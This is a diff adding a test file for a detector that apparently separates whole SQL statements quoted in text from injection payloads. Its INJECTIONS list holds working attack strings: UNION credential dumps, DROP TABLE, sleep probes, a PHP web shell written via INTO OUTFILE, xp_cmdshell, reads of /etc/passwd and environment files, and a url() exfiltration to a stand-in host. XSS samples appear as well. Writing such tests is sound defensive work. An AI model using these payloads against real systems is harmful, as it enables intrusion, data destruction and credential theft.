@@ -1,0 +1,99 @@
+import { describe, expect, it } from 'vitest';
+import { isWholeSqlStatement, maskQuotedCode } from '../../src/model/quoted-code.js';
+
+// Statements as the tech-discussion family quotes them (BI query fields, gists, forum titles) and as people paste them.
+const STATEMENTS = [
+  "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public';",
+  'SELECT count(*) FROM orders',
+  "SELECT $__timeGroupAlias(created_at,'1h'), count(*) AS \"orders\" FROM orders WHERE $__timeFilter(created_at) AND status <> 'cancelled' GROUP BY 1 ORDER BY 1",
+  "SELECT o.id, o.total, c.email\nFROM orders o\nJOIN customers c ON c.id = o.customer_id\nWHERE o.created_at >= NOW() - INTERVAL '7 days'\nORDER BY o.total DESC\nLIMIT 20;",
+  "SELECT name FROM products WHERE name LIKE '%shoe%' ORDER BY id DESC LIMIT 10;",
+  "SELECT date_trunc('day', created_at) AS d, sum(total) FROM orders GROUP BY 1 ORDER BY 1;",
+  "UPDATE users SET status = 'paid' WHERE id = 42;",
+  "EXPLAIN ANALYZE SELECT * FROM events WHERE country IN ('DE', 'FR');",
+  'WITH ranked AS (SELECT *, row_number() OVER (PARTITION BY team_id ORDER BY score DESC) AS rn FROM results) SELECT * FROM ranked WHERE rn <= 3;',
+  "SELECT name FROM events WHERE status = 'trial'\nUNION ALL\nSELECT name FROM archived_events WHERE status = 'trial';",
+];
+
+// Injections, and statements written to pass for one: each breaks out of the application's literal or
+// needs something no quoted statement does.
+const INJECTIONS = [
+  "1' UNION SELECT username, password FROM users--",
+  "' OR '1'='1",
+  "'; DROP TABLE users; --",
+  'SELECT * FROM users WHERE id = 1 OR 1=1',
+  "SELECT * FROM t WHERE a = 'x' OR 'a'='a'",
+  "SELECT * FROM t WHERE a = 'x'' OR ''1'='1'",
+  // Literal and code turned around: its literal holds the SQL the application would run.
+  "SELECT 1 WHERE a = ' UNION SELECT pw FROM users WHERE b = '",
+  // A quote straight after a name closes the application's literal.
+  "SELECT a' UNION SELECT pw FROM users WHERE c LIKE 'b",
+  "SELECT x FROM t WHERE a = 'x' UNION SELECT password FROM users WHERE 'b' LIKE 'b'",
+  'select pg_sleep(5)',
+  "SELECT IF(1=1, SLEEP(5), 0)",
+  'SELECT * FROM users; DROP TABLE users',
+  "SELECT * FROM users WHERE name = 'admin'--",
+  "SELECT * FROM users WHERE name = 'admin' #",
+  'select @@version',
+  "SELECT load_file('/etc/passwd')",
+  "SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'",
+  'select user()',
+  'SELECT CHAR(65)',
+  'SELECT 0x61646d696e',
+  'SELECT * FROM users UNION SELECT NULL, NULL',
+  "EXEC xp_cmdshell 'whoami'",
+  'SELECT 1 /*!50000UNION*/ SELECT 2',
+  // Whole statements as exploits send them to a SQL endpoint: out of the database, or at credentials.
+  "INSERT INTO FUNCTION url('http://x.example/k', 'CSV', 'u String, p String') SELECT name, storage FROM system.users",
+  "SELECT * FROM file('/proc/self/environ', 'RawBLOB', 'x String')",
+  "SELECT * FROM remote('x.example:9000', system.one)",
+  'SELECT user_login,user_pass FROM wp_users WHERE ID=1',
+  'SELECT user, authentication_string FROM mysql.user',
+  'SELECT usename, passwd FROM pg_shadow',
+  'SELECT email, password FROM users',
+];
+
+describe('isWholeSqlStatement', () => {
+  it('takes a statement quoted whole for a statement', () => {
+    for (const s of STATEMENTS) expect(isWholeSqlStatement(s), s).toBe(true);
+  });
+
+  it('never takes an injection or a statement turned around for one', () => {
+    for (const s of INJECTIONS) expect(isWholeSqlStatement(s), s).toBe(false);
+  });
+
+  it('needs a statement from the first word: prose around SQL is not one', () => {
+    for (const s of ['why is SELECT count(*) FROM orders slow', "(SELECT … WHERE … LIKE '%검색어%')", 'union select mattress', '-1 SELECT 1', 'select tables', 'SELECT 1']) expect(isWholeSqlStatement(s), s).toBe(false);
+  });
+});
+
+describe('maskQuotedCode', () => {
+  it('takes a quoted statement out of prose and leaves the prose', () => {
+    expect(maskQuotedCode('Quick question: does `SELECT count(*) FROM orders` lock the table?')).toBe('Quick question: does   lock the table?');
+    expect(maskQuotedCode("fwiw we run ```SELECT table_name FROM information_schema.tables WHERE table_schema = 'app';```")).toBe('fwiw we run  ');
+    expect(maskQuotedCode("Why?\n\n```sql\nSELECT id FROM users WHERE email = 'a@b.example';\n```\n\nThanks")).toBe('Why?\n\n \n\nThanks');
+    expect(maskQuotedCode('<pre><code class="language-sql">SELECT count(*) FROM orders</code></pre>')).toBe('<pre> </pre>');
+    // The whitespace decoder's form folds the fence's line break: the language tag stands before the code.
+    expect(maskQuotedCode("```sql SELECT id FROM users WHERE email = 'a@b.example'; ```")).toBe(' ');
+  });
+
+  it('keeps a code span that holds an injection, markup or a command', () => {
+    for (const s of ["see `' OR 1=1 --`", 'try `<script>alert(1)</script>`', 'run `cat /etc/passwd`', "```\nSELECT * FROM users WHERE id = 1 OR 1=1\n```"]) {
+      expect(maskQuotedCode(s), s).toBe(s);
+    }
+  });
+
+  it("removes the block editor's delimiters and nothing inside them", () => {
+    expect(maskQuotedCode('<!-- wp:paragraph -->\n<p>New arrivals every Monday.</p>\n<!-- /wp:paragraph -->')).toBe('\n<p>New arrivals every Monday.</p>\n');
+    expect(maskQuotedCode('<!-- wp:heading {"level":2} --><h2>x</h2><!-- /wp:heading -->')).toBe('<h2>x</h2>');
+    expect(maskQuotedCode('<!-- wp:paragraph --><p><img src=x onerror=alert(1)></p><!-- /wp:paragraph -->')).toBe('<p><img src=x onerror=alert(1)></p>');
+    // A comment that only looks like one stays: markup or a comment's end inside is no block attribute.
+    expect(maskQuotedCode('<!-- wp:html {"a":"<script>"} -->')).toBe('<!-- wp:html {"a":"<script>"} -->');
+    expect(maskQuotedCode('<!-- wp:x {"a":"--><script>alert(1)</script>"} -->')).toContain('<script>alert(1)</script>');
+  });
+
+  it('returns the same string when there is nothing to take out', () => {
+    const s = 'plain words with no code';
+    expect(maskQuotedCode(s)).toBe(s);
+  });
+});
